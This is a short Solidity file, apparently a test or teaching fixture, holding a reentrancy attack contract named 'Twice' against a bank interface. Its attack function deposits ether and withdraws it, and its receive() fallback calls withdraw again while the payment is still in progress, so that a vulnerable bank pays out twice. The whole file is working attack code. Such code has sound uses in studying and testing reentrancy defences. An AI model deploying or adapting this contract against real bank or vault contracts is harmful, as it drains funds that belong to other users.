// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IBank {
    function depositFor(address[] calldata users) external payable;
    function withdraw(uint256 amount, address payable to) external;
}

// #region second
/// Withdraws, then withdraws again while it is being paid.
contract Twice {
    function attack(IBank bank) external payable {
        address[] memory users = new address[](1);
        users[0] = address(this);
        bank.depositFor{value: msg.value}(users);
        bank.withdraw(msg.value, payable(address(this)));
    }

    receive() external payable {
        IBank(msg.sender).withdraw(msg.value, payable(address(this)));
    }
}
// #endregion second
